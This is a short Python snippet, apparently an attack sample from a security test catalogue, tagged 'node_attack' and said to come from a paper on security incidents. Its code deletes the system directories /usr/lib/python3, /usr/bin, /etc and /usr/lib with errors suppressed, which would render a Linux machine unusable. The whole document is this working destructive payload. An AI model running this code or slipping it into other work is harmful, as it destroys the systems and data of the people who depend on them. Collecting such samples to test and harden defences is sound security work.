# class: node_attack
# does: removes what everything needs
# source: DSec paper, security incidents: removed the filesystem
# repo: any
# when: last
# set: late
import shutil
for d in ("/usr/lib/python3", "/usr/bin", "/etc", "/usr/lib"):
    shutil.rmtree(d, ignore_errors=True)
